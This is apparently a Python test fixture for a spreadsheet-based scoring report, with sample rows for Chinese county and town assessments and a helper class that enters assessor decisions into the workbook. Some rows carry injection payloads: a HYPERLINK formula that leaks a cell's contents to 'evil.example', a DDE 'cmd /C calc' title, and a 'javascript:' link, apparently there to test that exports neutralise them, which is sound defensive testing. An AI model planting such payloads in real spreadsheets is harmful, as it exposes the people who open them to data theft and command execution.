"""A small score sheet with a row of every kind, and a pen to fill it in as an assessor's spreadsheet would."""

from __future__ import annotations

from datetime import date
from decimal import Decimal
from functools import cache
from io import BytesIO
from pathlib import Path
from typing import Any

import openpyxl

from config.messages import text
from reports.sheet.layout import AT, FIRST_ROW, IDENTITY_SHEET
from reports.sheet.row import Asks, Key, Lead, ScoreSheet, SheetIdentity, SheetRow
from reports.sheet.workbook import render

RUN = SheetIdentity("run-1", date(2025, 11, 20), (("demo", "a" * 16), ("plan", "b" * 16)), ("xian", "zhen"))
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"看这里")'


def row(rubric: str, unit: str, indicator: str, asks: Asks, **more: Any) -> SheetRow:
    """A row whose texts follow from its ids."""
    names = {"xian": "青山县人民政府", "zhen": "青山镇人民政府"}
    given = {"title": f"指标{indicator}", "clause": f"{indicator}的条款，\n第二行。"} | more
    return SheetRow(key=Key(rubric, unit, indicator), unit_name=names[unit], asks=asks, **given)


ROWS = (
    row("demo", "xian", "V1", Asks.OCCURRED, clause=ATTACK, title="+cmd|' /C calc'!A0"),
    row("demo", "xian", "D1", Asks.LOST, points=Decimal("2.5"), most=Decimal("1.5"), seen="检查已扣 1 分"),
    row("demo", "xian", "D2", Asks.LOST, leads=(Lead("column", "=1+1", "https://www.qing.example/tz/"),)),
    row("demo", "xian", "C1", Asks.EARNED, points=Decimal(4), most=Decimal(4), look_at="会议纪要"),
    row("demo", "zhen", "D1", Asks.LOST, points=Decimal("2.5"), most=Decimal("2.5"), no_leads="没有找到"),
    row("plan", "xian", "1-a", Asks.FULFILLED),
    row("plan", "zhen", "1-a", Asks.FULFILLED, leads=(Lead("finding", "坏", "javascript:alert(1)"),)),
)
SHEET = ScoreSheet(RUN, "青山县人民政府", {"demo": "示例指标", "plan": "工作要点"}, ROWS)
LINES = {row.key: FIRST_ROW + 1 + place for place, row in enumerate(ROWS)}
"""Where each row stands in the worksheet, from 1."""
V1, D1, D2, C1, ZHEN_D1, A1, ZHEN_A1 = (row.key for row in ROWS)


@cache
def blank(lang: str = "zh") -> bytes:
    """The workbook that nothing was entered in yet."""
    return render(SHEET, lang)


class Pen:
    """An open workbook. Text is entered as text, as a spreadsheet does with a cell of that format."""

    def __init__(self, content: bytes | None = None, lang: str = "zh") -> None:
        self.book = openpyxl.load_workbook(BytesIO(content or blank(lang)))
        self.page = self.book[text("sheet.name", lang)]

    def put(self, key: Key, column: str, value: Any, *, formula: bool = False) -> Pen:
        """Enter a value into a row's cell."""
        cell = self.page.cell(LINES[key], AT[column] + 1)
        cell.value = value
        if isinstance(value, str) and not formula:
            cell.data_type = "s"
        return self

    def decide(self, key: Key, value: Any, assessor: str = "王某", day: Any = date(2025, 12, 1)) -> Pen:
        """Enter a whole decision."""
        column = "amount" if next(row for row in ROWS if row.key == key).asks.by_points else "decision"
        return self.put(key, column, value).put(key, "assessor", assessor).put(key, "assessed-on", day)

    def name(self, place: int, value: str, column: int = 2) -> Pen:
        """Change a line (from 1) of the hidden identity."""
        self.book[IDENTITY_SHEET].cell(place, column).value = value
        return self

    def save(self, path: Path) -> Path:
        """Write the workbook to `path`."""
        self.book.save(path)
        return path
